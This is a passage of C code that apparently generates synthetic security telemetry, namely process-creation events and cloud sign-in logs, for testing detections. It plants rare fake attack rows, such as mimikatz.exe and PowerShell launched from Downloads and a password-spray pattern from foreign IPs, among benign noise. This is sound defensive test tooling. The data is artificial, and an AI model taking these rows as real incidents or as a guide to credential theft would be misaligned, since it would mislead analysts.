            snprintf(path, sizeof path, "%s\\%s", folder, p->name);
            const char *fname = p->name, *parent = p->parent;
            double r = unif();
            if (r < 1.0 / 20000) {
                int k = (int)below(sizeof HITS / sizeof *HITS);
                snprintf(cmd, sizeof cmd, HITS[k], acct);
                fname = k == 0 ? "mimikatz.exe" : (k == 2 ? "cmd.exe" : (k == 3 ? "rundll32.exe" : "powershell.exe"));
                parent = "explorer.exe";
            } else if (r < 2.0 / 20000) {
                snprintf(cmd, sizeof cmd, NEAR_MISSES[below(sizeof NEAR_MISSES / sizeof *NEAR_MISSES)], acct);
            } else {
                make_cmd(cmd, sizeof cmd, p, path, u);
            }
            if (fname != p->name) snprintf(path, sizeof path, "C:\\Users\\%s\\Downloads\\%s", acct, fname);
            /* the parent's command line: a few per parent name */
            if (strcmp(parent, "explorer.exe") == 0) snprintf(pcmd, sizeof pcmd, "C:\\WINDOWS\\Explorer.EXE");
            else if (strcmp(parent, "services.exe") == 0) snprintf(pcmd, sizeof pcmd, "C:\\WINDOWS\\system32\\services.exe");
            else if (strcmp(parent, "svchost.exe") == 0)
                snprintf(pcmd, sizeof pcmd, "C:\\WINDOWS\\system32\\svchost.exe -k %s -p", SVC_GROUPS[below(10)]);
            else if (strcmp(parent, "cmd.exe") == 0)
                snprintf(pcmd, sizeof pcmd, "C:\\WINDOWS\\system32\\cmd.exe /c \"\"C:\\ProgramData\\IT\\%s.cmd\" \"",
                         SCRIPTS[below(6)]);
            else snprintf(pcmd, sizeof pcmd, "\"%s\"", parent);
            double v = unif();
            const char *sha = p->sha[v < 0.7 ? 0 : (v < 0.95 ? 1 : 2)];
            char uniq[65];
            if (fname != p->name) hexstr(uniq, 0x7000000ull + (uint64_t)row, 64), sha = uniq;

            cell(&w, ts);
            cell(&w, d->id);
            cell(&w, d->name);
            cell(&w, "ProcessCreated");
            cell(&w, fname);
            cell(&w, path);
            cell(&w, sha);
            cellf(&w, "%u", 4 * (25 + below(16000)));
            cell(&w, cmd);
            cell(&w, integrity);
            cell(&w, domain);
            cell(&w, acct);
            cell(&w, parent);
            cellf(&w, "%u", 4 * (25 + below(16000)));
            cell(&w, pcmd);
            cellf(&w, "%" PRId64, row + 1);
            endrow(&w);
        }
    }
    free(per_hour);
    free(devd.cdf);
    free(procd.cdf);
    csv_close(&w);
}

typedef struct {
    const char *code, *desc;
    double w;
} result_type;
static const result_type RESULTS[] = {
    {"0", "", 88},
    {"50126", "Error validating credentials due to invalid username or password.", 4},
    {"50074", "Strong Authentication is required.", 3},
    {"50140", "This error occurred due to 'Keep me signed in' interrupt when the user was signing in.", 2},
    {"53003", "Access has been blocked by Conditional Access policies.", 1},
    {"50053", "Account is locked because user tried to sign in too many times with an incorrect user ID or password.", .5},
    {"50055", "The password is expired.", .5},
    {"50076", "Due to a configuration change made by your administrator, or because you moved to a new location, you must "
              "use multi-factor authentication to access.", .5},
    {"70044", "The session has expired or is invalid due to sign-in frequency checks by conditional access.", .5},
};
static const char *APPS[] = {"Microsoft Teams", "Office 365 Exchange Online", "OfficeHome", "Microsoft Authentication Broker",
                             "Windows Sign In", "Azure Portal", "Microsoft Office", "SharePoint Online Web Client Extensibility",
                             "Microsoft Edge", "OneDrive SyncEngine", "Office365 Shell WCSS-Client", "My Apps",
                             "Microsoft Azure CLI", "Azure Virtual Desktop Client", "Microsoft Intune Company Portal",
                             "Outlook Mobile", "Microsoft To-Do client", "Power BI Desktop", "Visual Studio Code",
                             "Microsoft 365 Security and Compliance Center", "Graph Explorer", "Salesforce", "ServiceNow",
                             "Workday", "Zoom", "Slack", "GitHub Enterprise Cloud", "Atlassian Cloud", "Box", "Dropbox"};
#define NAPPS (sizeof APPS / sizeof *APPS)

static void fmt_ip(char *out, uint32_t ip) {
    sprintf(out, "%u.%u.%u.%u", (ip >> 24) % 223 + 1, (ip >> 16) & 255, (ip >> 8) & 255, ip & 255);
}

static void gen_signins(const char *dir, int64_t rows) {
    csv w = csv_open(dir, "SigninLogs.csv");
    static const char *hdr[] = {"TimeGenerated", "UserPrincipalName", "UserDisplayName", "UserId", "AppDisplayName",
                                "AppId", "IPAddress", "Location", "ResultType", "ResultDescription", "ClientAppUsed",
                                "ConditionalAccessStatus", "IsInteractive", "AuthenticationRequirement", "CorrelationId"};
    for (size_t i = 0; i < sizeof hdr / sizeof *hdr; i++) cell(&w, hdr[i]);
    endrow(&w);
    double rw[sizeof RESULTS / sizeof *RESULTS];
    for (size_t i = 0; i < sizeof RESULTS / sizeof *RESULTS; i++) rw[i] = RESULTS[i].w;
    dist resd = dist_make(rw, sizeof rw / sizeof *rw), userd = dist_zipf(NUSER, 0.5), appd = dist_zipf(NAPPS, 1.0);
    int64_t *per_hour = hour_counts(rows);
    char ts[40], ip[20], upn[96], corr[37], appid[37];
    for (int h = 0; h < HOURS; h++) {
        int64_t n = per_hour[h];
        for (int64_t j = 0; j < n; j++) {
            int64_t ms = T0_MS + (int64_t)h * 3600000 + (int64_t)(((double)j + unif()) * 3600000.0 / (double)n);
            fmt_time(ts, ms);
            /* users on a (shuffled) Zipf curve; 2% password spray from abroad */
            const user *u = &users[mix(draw(&userd)) % NUSER];
            const result_type *res = &RESULTS[draw(&resd)];
            const char *loc = u->country;
            bool spray = chance(0.02);
            if (spray) {
                res = &RESULTS[1];
                loc = RARE_COUNTRIES[below(8)];
                fmt_ip(ip, (uint32_t)mix(0xF00ull + below(200)));
            } else if (chance(0.9)) {
                fmt_ip(ip, u->ip[below(2)]);
            } else {
                fmt_ip(ip, (uint32_t)rnd());
                if (chance(0.3)) loc = COUNTRIES[below(14)];
            }
            snprintf(upn, sizeof upn, "%s@contoso.com", u->name);
            size_t app = draw(&appd);
            guidstr(appid, 0xAB00ull + app);
            guidstr(corr, rnd());
            bool interactive = chance(0.6);
            cell(&w, ts);
            cell(&w, upn);
            cell(&w, u->display);
            cell(&w, u->id);
            cell(&w, APPS[app]);
            cell(&w, appid);
            cell(&w, ip);
            cell(&w, loc);
            cell(&w, res->code);
            cell(&w, res->desc);
            cell(&w, spray ? "Other clients" : (interactive ? "Browser" : "Mobile Apps and Desktop clients"));
            cell(&w, res->code[0] == '5' && res->code[1] == '3' ? "failure" : (chance(0.7) ? "success" : "notApplied"));
            cell(&w, interactive ? "true" : "false");
            cell(&w, chance(0.4) ? "multiFactorAuthentication" : "singleFactorAuthentication");
            cell(&w, corr);
            endrow(&w);
        }
    }
    free(per_hour);
    free(resd.cdf);
    free(userd.cdf);
    free(appd.cdf);
    csv_close(&w);
}

int main(int argc, char **argv) {
    int64_t rows = 10000000, srows = -1;
    const char *out = ".";
    uint64_t seed = 20240601;
    for (int i = 1; i < argc; i++) {
        if (strcmp(argv[i], "--rows") == 0 && i + 1 < argc) rows = strtoll(argv[++i], NULL, 10);
        else if (strcmp(argv[i], "--signin-rows") == 0 && i + 1 < argc) srows = strtoll(argv[++i], NULL, 10);
        else if (strcmp(argv[i], "--out") == 0 && i + 1 < argc) out = argv[++i];
        else if (strcmp(argv[i], "--seed") == 0 && i + 1 < argc) seed = strtoull(argv[++i], NULL, 10);
        else {
            fprintf(stderr, "usage: gen [--rows N] [--signin-rows M] [--out DIR] [--seed S]\n");
            return 2;
        }
    }
    if (rows < 1) rows = 1;
    if (srows < 0) srows = rows / 5 > 0 ? rows / 5 : 1;
    make_entities();
    make_catalog();
    rng_state = seed;
    gen_process_events(out, rows);
    rng_state = seed ^ 0x5151515151515151ull;
    gen_signins(out, srows);
    return 0;
}
